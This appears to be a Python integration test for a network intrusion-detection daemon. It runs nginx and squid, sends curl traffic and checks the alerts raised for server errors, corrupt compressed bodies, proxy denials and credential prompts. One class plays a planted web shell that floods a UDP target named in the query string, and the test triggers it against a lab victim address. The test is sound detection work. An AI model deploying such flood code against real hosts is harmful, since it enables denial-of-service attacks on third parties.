"""nginx and squid with curl: failing upstreams, damaged gzip, a proxy that denies and asks in vain, a web shell; and their twins."""
import gzip
import random
import socket
import threading
import time
import zlib
from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.parse import parse_qs, urlsplit

from harness import PEER, PEER6, SENSOR, SENSOR6, expect, inside, until
from servers import Authority, Server, echo_server, folder_of, found, need, nginx, own, text_file, together, verdict

VICTIM, SQUID, ORIGIN = "10.77.0.66", "10.77.0.5", "10.77.0.6"


def pages(stage):
    """Files for nginx: plain, compressed, and compressed ones that were damaged."""
    folder = folder_of(stage, "pages")
    text = "".join(f"<p>{random.Random(line).random()} line {line}</p>\n" for line in range(2500)).encode()
    packed = gzip.compress(text)
    broken = bytearray(packed)
    broken[len(broken) // 2: len(broken) // 2 + 64] = bytes(64)
    bare = zlib.compressobj(wbits=-15)
    for name, content in {"index.html": text[:900], "big.html": text, "good.gz": packed, "slow.gz": packed, "broken.gz": bytes(broken),
                          "short.gz": packed[: len(packed) // 2], "plain.gz": text[:3000], "empty.gz": b"",
                          "members.gz": gzip.compress(text[:5000]) + gzip.compress(text[5000:9000]),
                          "good.zz": zlib.compress(text), "bare.zz": bare.compress(text) + bare.flush(),
                          "broken.zz": zlib.compress(text)[:4000] + bytes(200) + zlib.compress(text)[4200:]}.items():
        (folder / name).write_bytes(content)
        (folder / name).chmod(0o644)
    return folder


def web_config(root):
    labelled = """
        location ~ [.]gz$ { add_header Content-Encoding gzip; default_type text/html; }
        location ~ [.]zz$ { add_header Content-Encoding deflate; default_type text/html; }"""
    return f"""
        root {root};
        server {{                                              # the healthy one
            listen {SENSOR}:8080; listen [{SENSOR6}]:8080; gzip on; gzip_min_length 100; {labelled}
            location = /healthz {{ return 503; }}
            location = /rare {{ return 500; }}
            location = /slow.gz {{ limit_rate 8k; add_header Content-Encoding gzip; }}
            location = /form {{ return 204; }}
            location /img/ {{ proxy_pass http://127.0.0.1:9000; }}
        }}
        server {{ listen {SENSOR}:8081; listen [{SENSOR6}]:8081; location / {{ proxy_pass http://127.0.0.1:9; }} }}   # nobody behind it
        server {{ listen {SENSOR}:8082; location = /pay {{ return 500; }} }}
        server {{ listen {SENSOR}:8083; {labelled} }}
        """


class Shell(BaseHTTPRequestHandler):
    """What somebody put on the web server: floods whom the query names.  /img/call.php is a media server instead."""

    def do_GET(self):
        asked = parse_qs(urlsplit(self.path).query)
        threading.Thread(target=self.flood, args=(asked["host"][0], int(asked["port"][0]))).start()
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"ok")

    def flood(self, host, port):
        with inside(self.server.space):
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        with sock:
            began = time.monotonic()
            for number in range(9000):
                sock.sendto(b"x" * 200, (host, port))
                if number % 50 == 0:
                    time.sleep(max(0.0, began + number / 4500 - time.monotonic()))

    def log_message(self, *_):
        """Says nothing."""


def shell_behind_nginx(stage):
    with inside(stage.names["sensor"]):
        server = HTTPServer(("127.0.0.1", 9000), Shell)
    server.space = stage.names["sensor"]
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    stage.closing.append(server.server_close)
    stage.closing.append(server.shutdown)


def fetch(stage, port, *paths, host="www.example.test", options=(), status=0, address=SENSOR):
    """One curl over one connection; all of it must end with this status."""
    url = [f"http://{host}:{port}{path}" for path in paths]
    words = ["curl", "-sS", "-m", "10", "-o", "/dev/null", "--resolve", f"{host}:{port}:{address}", *options]
    done = stage.peer(*words, *[part for one in url for part in ("-o", "/dev/null", one)][2:], check=False)
    expect(done.returncode == status, f"curl {paths} ended with {done.returncode}, not {status}: {done.stderr[-300:]}")


def healthy_web(stage):
    fetch(stage, 8080, *["/index.html"] * 40, "/rare")
    fetch(stage, 8080, "/big.html", "/good.gz", "/good.zz", "/bare.zz", "/members.gz", "/missing", options=["--compressed"])
    fetch(stage, 8080, "/empty.gz")                         # no bytes at all, though labelled
    fetch(stage, 8080, "/good.gz", "/broken.gz", options=["-I"])
    fetch(stage, 8080, "/good.gz", options=["-r", "500-900"])
    fetch(stage, 8080, "/healthz", "/healthz", "/healthz", "/healthz", "/healthz", "/healthz", options=["-A", "kube-probe/1.28"])
    fetch(stage, 8080, "/form", options=["-H", "Expect: 100-continue", "-d", "x" * 2000])
    fetch(stage, 8080, "/slow.gz", options=["-m", "0.4"], status=28)      # the user goes away
    fetch(stage, 8082, *["/index.html"] * 20, "/pay", host="shop.example.test")


def test_a_web_server_and_what_stands_behind_it(stage):
    need("curl")
    root = pages(stage)
    server = nginx(stage, "sensor", "web", web_config(root), [(SENSOR, port) for port in (8080, 8081, 8082, 8083)])
    shell_behind_nginx(stage)
    stage.silent("sensor", VICTIM)
    echo_server(stage, "peer", PEER, 40000, lambda data, number: b"report" if number % 40 == 0 else None)
    daemon = stage.daemon()
    server.ready()
    healthy_web(stage)
    fetch(stage, 8080, f"/img/call.php?host={PEER}&port=40000")
    fetch(stage, 8081, *[f"/api/orders/{number}" for number in range(1, 9)], host="app.example.test")
    fetch(stage, 8080, *["/index.html"] * 10, host="six.example.test", address=f"[{SENSOR6}]")
    fetch(stage, 8081, *["/six"] * 6, host="six.example.test", address=f"[{SENSOR6}]")
    fetch(stage, 8082, *["/index.html"] * 40, *["/pay"] * 7, host="shop.example.test")
    fetch(stage, 8083, "/broken.gz", host="docs.example.test", options=["--compressed"], status=61)
    fetch(stage, 8083, "/broken.zz", host="files.example.test", options=["--compressed"], status=61)
    fetch(stage, 8083, "/plain.gz", host="plain.example.test", options=["--compressed"], status=61)
    fetch(stage, 8080, f"/img/up.php?host={VICTIM}&port=4444&time=2")
    verdict(daemon, {
        ("http_server_error", f"{SENSOR}:8081, app.example.test"): {
            "says": " requests with a server error, the first GET /api/orders/1 with 502 Bad Gateway",
            "ends": {"source.ip": SENSOR, "source.port": 8081, "destination.ip": PEER}, "evidence": {"status": 502}},
        ("http_server_error", f"[{SENSOR6}]:8081, six.example.test"): {"ends": {"source.ip": SENSOR6, "destination.ip": PEER6}},
        ("http_server_error", f"{SENSOR}:8082, shop.example.test"): {
            "says": "the first GET /pay with 500", "evidence": {"count": lambda n: n >= 5, "uri": "/pay"}},
        ("http_content_decode_error", f"{SENSOR}:8083, docs.example.test"): {
            "says": "sent /broken.gz as gzip", "evidence": {"encoding": "gzip"}},
        ("http_content_decode_error", f"{SENSOR}:8083, files.example.test"): {
            "says": "sent /broken.zz as deflate", "evidence": {"encoding": "deflate"}},
        ("http_content_decode_error", f"{SENSOR}:8083, plain.example.test"): {
            "says": "sent /plain.gz as gzip", "evidence": {"error": "not_gzip"}},
        ("http_triggered_udp_flood", f"{SENSOR}>{VICTIM}"): {
            "says": [f"{PEER} asked {SENSOR} for /img/up.php?host={VICTIM}", f"to {VICTIM}:4444"],
            "ends": {"source.ip": SENSOR, "destination.ip": VICTIM}, "severity": "critical",
            "evidence": {"trigger_src": PEER, "datagrams": lambda n: n >= 1000}},
    }, symptoms={"udp_flood"})


def squid(stage):
    """Blocks some targets, lets one through to everybody, asks for a name and a password for all others."""
    folder = folder_of(stage, "squid")
    hash_of = stage.peer("openssl", "passwd", "-apr1", "geheim").stdout.strip()
    text_file(folder / "users", f"joe:{hash_of}\n")
    text_file(folder / "blocked", ".blocked.test\n")
    names = ("www.allowed.test", "www.open.test", "www.blocked.test", "www.moved.test", "a.update.test", "b.update.test")
    text_file(folder / "hosts", "".join(f"{ORIGIN} {name}\n" for name in names))
    config = text_file(folder / "squid.conf", f"""
        http_port {SQUID}:3128
        auth_param basic program /usr/lib/squid/basic_ncsa_auth {folder}/users
        auth_param basic children 2
        auth_param basic realm test
        acl blocked dstdomain "{folder}/blocked"
        acl open dstdomain .open.test
        acl users proxy_auth REQUIRED
        http_access deny blocked
        http_access allow open
        http_access allow users
        http_access deny all
        cache deny all
        cache_log {folder}/cache.log
        access_log none
        pid_filename {folder}/pid
        coredump_dir {folder}
        hosts_file {folder}/hosts
        pinger_enable off
        netdb_filename none
        shutdown_lifetime 0 seconds
        visible_hostname proxy.test
        """)
    need("/usr/lib/squid/basic_ncsa_auth")
    return folder, config, Server(stage, "peer", "squid", [found("squid"), "-N", "-f", config], [(SQUID, 3128)])


def through_squid(stage, *urls, options=(), want=200):
    words = ["curl", "-s", "-k", "-m", "10", "-x", f"http://{SQUID}:3128", "-w", "%{http_code} %{http_connect}\\n", *options]
    done = stage.sensor(*words, *[part for url in urls for part in ("-o", "/dev/null", url)], check=False)
    codes = {line.split()[1] if line.split()[0] == "000" else line.split()[0] for line in done.stdout.splitlines()}
    expect(codes == {str(want)}, f"the proxy's clients got {codes}, not {want}: {done.stderr[-200:]}")


def test_a_proxy_denies_and_asks_for_credentials(stage):
    own(stage, "peer", SQUID, ORIGIN)
    certificate, key = Authority(stage).issue("www.allowed.test", ["DNS:*.test"])
    origin = nginx(stage, "peer", "origin", f"""
        ssl_certificate {certificate}; ssl_certificate_key {key};
        server {{ listen {ORIGIN}:80; listen {ORIGIN}:443 ssl; location /private {{ return 403; }} location / {{ return 200 ok; }} }}
        """, [(ORIGIN, 80), (ORIGIN, 443)])
    folder, config, proxy = squid(stage)
    daemon = stage.daemon()
    origin.ready()
    proxy.ready()
    user = ["-U", "joe:geheim"]
    # What works: with credentials at once, after being asked, without any where none are wanted; a page of the origin's that
    # is not for us, a connection that is used again.
    through_squid(stage, *["http://www.allowed.test/page", "https://www.allowed.test/"] * 5, options=user)
    through_squid(stage, *["http://www.allowed.test/", "http://a.update.test/"] * 3, options=["--proxy-anyauth", *user])
    through_squid(stage, *["http://www.open.test/"] * 5)
    through_squid(stage, *["http://www.allowed.test/private"] * 5, options=user, want=403)
    through_squid(stage, *["https://www.moved.test/"] * 2, options=user)
    # A program that cannot log in, and two targets that are denied: one always was, one worked till now.
    updater = ["-A", "Updater/2.1"]
    through_squid(stage, *["http://a.update.test/list", "http://b.update.test/list"] * 2, options=updater, want=407)
    through_squid(stage, "https://a.update.test/", options=updater, want=407)
    through_squid(stage, *["https://www.blocked.test/"] * 4, options=user, want=403)
    through_squid(stage, *["http://www.blocked.test/"] * 4, options=user, want=403)
    text_file(folder / "blocked", ".blocked.test\n.moved.test\n")
    stage.peer(found("squid"), "-k", "reconfigure", "-f", config)
    until(lambda: ask_once(stage, "https://www.moved.test/", user) == "403", 20, "the proxy blocks one more")
    through_squid(stage, *["https://www.moved.test/"] * 4, options=user, want=403)
    verdict(daemon, {
        ("http_proxy_auth_unanswered", f"{SENSOR}>{SQUID}, Updater/2.1"): {
            "says": ["Updater/2.1", "for 2 hosts"], "ends": {"source.ip": SENSOR, "destination.ip": SQUID},
            "evidence": {"count": lambda n: 3 <= n <= 5, "schemes": ["Basic"], "hosts": ["a.update.test", "b.update.test"]}},
        ("http_proxy_denied", f"{SQUID}:3128, www.blocked.test:443"): {
            "says": [f"Proxy {SQUID}:3128 denied ", " requests of 1 client for www.blocked.test:443 with 403 Forbidden"],
            "evidence": {"method": "CONNECT", "allowed_before": False}, "urgency": "note"},
        ("http_proxy_denied", f"{SQUID}:3128, www.blocked.test:80"): {
            "evidence": {"method": "GET", "allowed_before": False}, "urgency": "note"},
        ("http_proxy_denied", f"{SQUID}:3128, www.moved.test:443"): {
            "says": "it was allowed before", "evidence": {"method": "CONNECT", "allowed_before": True}},
        ("cleartext_credentials", f"{SQUID}:3128, http_basic"): {"evidence": {"user": "joe"}, "severity": "info"},
    })


def ask_once(stage, url, options):
    return stage.sensor("curl", "-s", "-k", "-m", "5", "-o", "/dev/null", "-x", f"http://{SQUID}:3128", "-w", "%{http_connect}",
                        *options, url, check=False).stdout
